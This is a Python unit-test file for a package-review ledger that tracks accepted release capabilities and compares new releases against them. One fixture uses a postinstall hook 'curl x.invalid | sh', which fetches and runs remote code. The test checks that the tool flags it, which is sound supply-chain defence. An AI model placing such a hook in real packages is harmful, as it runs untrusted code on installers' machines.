"""What is accepted, since when, and what a release is compared with then."""

from __future__ import annotations

from datetime import date

from tests.unit.ledger.lines import MONDAY, REGISTRY, TUESDAY, analysis, inner, key, release

from pratique import difference
from pratique.ledger import (
    accept,
    accepted_artifacts,
    accepted_releases,
    baseline_from,
    is_settled,
    packages_of,
    pruned,
    read_ledger,
    refreshed,
    running_at_install,
    spelled_out,
    to_analyse_again,
    write_ledger,
)
from pratique.model.behavior import ANALYSER, Analysis, Baseline, Origin
from pratique.model.ledger import BOOTSTRAP, Ledger
from pratique.model.package import Digest, Package, Release

OLDER = ANALYSER - 1
WEDNESDAY = date(2026, 11, 25)


def accepted(
    *those: tuple[Release, Analysis],
    before: Ledger | None = None,
    today: date = MONDAY,
    by: str = "ada",
    why: str = "read it",
) -> Ledger:
    entries = [(each, REGISTRY, found) for each, found in those]
    return accept(before or Ledger(), entries, today, by, why)


def known(ledger: Ledger, each: Release) -> Baseline:
    found = baseline_from(ledger, each, REGISTRY)
    assert found is not None
    return found


def unchanged(ledger: Ledger, digest: Digest, registry: str = REGISTRY) -> frozenset[Release]:
    return accepted_releases(ledger, {release(): digest}, lambda _name: registry)


def test_only_the_very_bytes_of_the_same_registry_are_unchanged() -> None:
    ledger = accepted((release(), analysis()))
    assert {release()} == unchanged(ledger, Digest("sha512", "a" * 128))
    assert not unchanged(ledger, Digest("sha512", "b" * 128))
    assert not unchanged(ledger, Digest("sha1", "a" * 40))
    assert not unchanged(ledger, Digest("sha512", "a" * 128), "https://npm.corp.example/")


def test_a_capability_keeps_the_day_on_which_it_was_first_accepted() -> None:
    first = accepted((release(), analysis("net.client")))
    second = accepted(
        (release("1.0.1"), analysis("net.client", "fs.read", digest="b")),
        before=first, today=TUESDAY, by="bob", why="our outage",
    )  # fmt: skip
    line = second.lines[key()]
    assert {"net.client": MONDAY, "fs.read": TUESDAY} == line.capabilities
    assert (MONDAY, TUESDAY, "bob", "our outage") == (line.first, line.last, line.by, line.why)
    assert ["1.0.0", "1.0.1"] == [each.version for each in line.accepted]
    assert {"fs.read": TUESDAY} == known(second, release("1.0.2")).since


def test_what_a_package_could_do_from_the_beginning_is_not_new_a_month_long() -> None:
    ledger = accepted((release(), analysis("net.client")), why=BOOTSTRAP)
    newer = analysis("net.client", digest="b")
    found = difference.compare(
        "left-widget", "1.0.1", newer, known(ledger, release("1.0.1")), today=TUESDAY
    )
    assert found.gained == ()


def test_what_one_release_brought_in_is_still_new_in_the_next() -> None:
    first = accepted((release(), analysis()))
    second = accepted((release("1.0.1"), analysis("net.client")), before=first, today=TUESDAY)
    newer = analysis("net.client", digest="b")
    found = difference.compare(
        "left-widget", "1.0.2", newer, known(second, release("1.0.2")), today=WEDNESDAY
    )
    assert [(gain.capability, gain.since) for gain in found.gained] == [("net.client", TUESDAY)]


def test_a_new_major_inherits_the_days_of_the_line_below_and_nothing_else() -> None:
    first = accepted((release(), analysis("net.client", "fs.read")))
    second = accepted((release("2.0.0"), analysis("net.client", "net.dns")), before=first,
                      today=TUESDAY)  # fmt: skip
    line = second.lines[key(line="2")]
    assert {"net.client": MONDAY, "net.dns": TUESDAY} == line.capabilities
    assert {"net.dns": TUESDAY} == known(second, release("2.0.1")).since
    assert first.lines[key()] == second.lines[key()]


def test_a_release_is_compared_with_its_own_line_or_the_highest_below() -> None:
    ledger = accepted(
        (release("0.3.1"), analysis("fs.read")),
        (release("1.0.0"), analysis("net.client")),
        (release("1.4.0"), analysis("net.dns", digest="b")),
    )
    lines = {
        version: sorted(known(ledger, release(version)).capabilities)
        for version in (
            "0.3.0",
            "0.4.0",
            "0.9.1",
            "1.0.0-rc.1",
            "1.0.0",
            "1.9.0",
            "2.0.0",
            "12.0.0",
        )
    }
    both = ["net.client", "net.dns"]
    assert lines == {
        "0.3.0": ["fs.read"], "0.4.0": ["fs.read"], "0.9.1": ["fs.read"],
        "1.0.0-rc.1": both, "1.0.0": both, "1.9.0": both, "2.0.0": both, "12.0.0": both,
    }  # fmt: skip
    assert baseline_from(ledger, release("0.2.9"), REGISTRY) is None
    assert baseline_from(ledger, release("1.0.0", "other"), REGISTRY) is None
    assert baseline_from(ledger, release("1.0.0"), "https://npm.corp.example/") is None


def test_a_baseline_says_which_versions_it_is_made_of() -> None:
    ledger = accepted((release("1.10.0"), analysis()), (release("1.9.0"), analysis(digest="b")))
    found = known(ledger, release("1.11.0"))
    assert (Origin.LEDGER, ("1.9.0", "1.10.0")) == (found.origin, found.versions)


PLAIN = analysis(
    "install.script",
    inner=inner(
        ("dependencies", "steady", "^1.0.0"),
        ("devDependencies", "tool", "1.0.0"),
        bins=(("left", "bin.js"),),
    ),
    installs=(("postinstall", "node setup.js"),),
    binaries=(("build/left.node", "elf"),),
    size=10,
    code=5,
    files=2,
)


def test_the_same_manifest_shows_no_change_after_the_way_through_the_file() -> None:
    ledger = read_ledger(write_ledger(accepted((release(), PLAIN))))
    newer = release("1.0.1")
    baseline = spelled_out(known(ledger, newer), PLAIN)
    found = difference.compare("left-widget", "1.0.1", PLAIN, baseline, today=TUESDAY)
    assert ((), (), ()) == (found.gained, found.lost, found.changes)
    assert found.before == found.after


def test_other_commands_and_new_dependencies_are_seen_against_the_ledger() -> None:
    ledger = read_ledger(write_ledger(accepted((release(), PLAIN))))
    other = analysis(
        "install.script",
        inner=inner(("dependencies", "fresh", "1.0.0"), ("optionalDependencies", "steady", "2")),
        installs=(("postinstall", "curl x.invalid | sh"),),
        digest="b",
    )
    newer = release("1.0.1")
    found = difference.compare(
        "left-widget", "1.0.1", other, spelled_out(known(ledger, newer), other), today=TUESDAY
    )
    assert ["install.script:altered-postinstall", "dep.new:fresh"] == [
        gain.capability for gain in found.gained
    ]
    assert {("bin", "left"), ("binary", "build/left.node"), ("dependencies", "fresh"),
            ("install", "postinstall")} == {
        (change.what, change.name) for change in found.changes
    }  # fmt: skip


# -- an analyser that sees more --------------------------------------------------------------------


def test_what_an_older_analyser_accepted_is_looked_at_again() -> None:
    ledger = accepted(
        *((release(f"1.0.{patch}"), analysis(analyser=OLDER)) for patch in (2, 0, 1, 10))
    )
    digest = Digest("sha512", "a" * 128)
    again = to_analyse_again(ledger, release("1.0.11"), REGISTRY)
    assert dict.fromkeys((release("1.0.1"), release("1.0.2"), release("1.0.10")), digest) == again
    assert release("1.0.2") not in to_analyse_again(ledger, release("1.0.2"), REGISTRY)


def test_what_this_analyser_accepted_is_not_looked_at_again() -> None:
    ledger = accepted((release(), analysis()))
    assert {} == to_analyse_again(ledger, release("1.0.1"), REGISTRY)


def test_what_a_newer_analyser_sees_in_accepted_bytes_is_as_old_as_the_line() -> None:
    old = accepted((release(), analysis("fs.read", analyser=OLDER)))
    baseline = Baseline(Origin.LEDGER, capabilities=frozenset({"fs.read", "net.client"}))
    found = refreshed(old, release("1.0.1"), REGISTRY, baseline).lines[key()]
    assert {"fs.read": MONDAY, "net.client": MONDAY} == found.capabilities
    assert found.analyser == ANALYSER


def test_a_bootstrap_by_a_newer_analyser_neither_dates_nor_signs_what_was_reviewed() -> None:
    old = accepted((release(), analysis("fs.read", analyser=OLDER)))
    again = accepted(
        (release(), analysis("fs.read", "net.client")), before=old, today=TUESDAY, by="bot",
        why=BOOTSTRAP,
    )  # fmt: skip
    line = again.lines[key()]
    assert {"fs.read": MONDAY, "net.client": MONDAY} == line.capabilities
    assert ("ada", "read it", MONDAY, ANALYSER) == (line.by, line.why, line.last, line.analyser)


def test_a_review_of_what_was_bootstrapped_is_on_record() -> None:
    first = accepted((release(), analysis()), why=BOOTSTRAP)
    assert not first.lines[key()].is_reviewed
    second = accepted((release(), analysis()), before=first, today=TUESDAY, why="read it")
    assert second.lines[key()].is_reviewed


def test_lines_of_packages_that_are_gone_are_pruned() -> None:
    ledger = accepted((release(), analysis()), (release(name="gone"), analysis(digest="b")))
    assert {Package("left-widget"), Package("gone")} == packages_of(ledger)
    assert {Package("left-widget")} == packages_of(pruned(ledger, {Package("left-widget")}))


def test_bytes_are_settled_once_this_analyser_looked_at_their_line() -> None:
    settled = accepted((release(), analysis()))
    assert is_settled(settled, release(), REGISTRY, "a" * 128)
    assert not is_settled(settled, release(), REGISTRY, "b" * 128)
    assert not is_settled(settled, release("1.0.1"), REGISTRY, "a" * 128)
    assert not is_settled(settled, release(), "https://npm.corp.example/", "a" * 128)
    older = accepted((release(), analysis(analyser=OLDER)))
    assert not is_settled(older, release(), REGISTRY, "a" * 128)


def test_accepted_bytes_are_those_of_the_registry_that_serves_the_name_now() -> None:
    ledger = accepted((release(), analysis()))
    assert {(release(), "a" * 128)} == accepted_artifacts(ledger, lambda _name: REGISTRY)
    assert not accepted_artifacts(ledger, lambda _name: "https://npm.corp.example/")


def test_what_runs_at_install_in_an_accepted_line_is_on_record() -> None:
    runs = analysis(installs=(("install", "make"),))
    bundles = analysis("install.script:bundled-install", digest="b")
    calm = analysis("exec.process:child_process", digest="c")
    named = {each: release(name=each) for each in ("runs", "bundles", "calm", "other")}
    ledger = accepted((named["runs"], runs), (named["bundles"], bundles), (named["calm"], calm))
    found = running_at_install(ledger, named.values(), lambda _name: REGISTRY)
    assert {named["runs"], named["bundles"]} == found
    assert not running_at_install(ledger, named.values(), lambda _name: None)
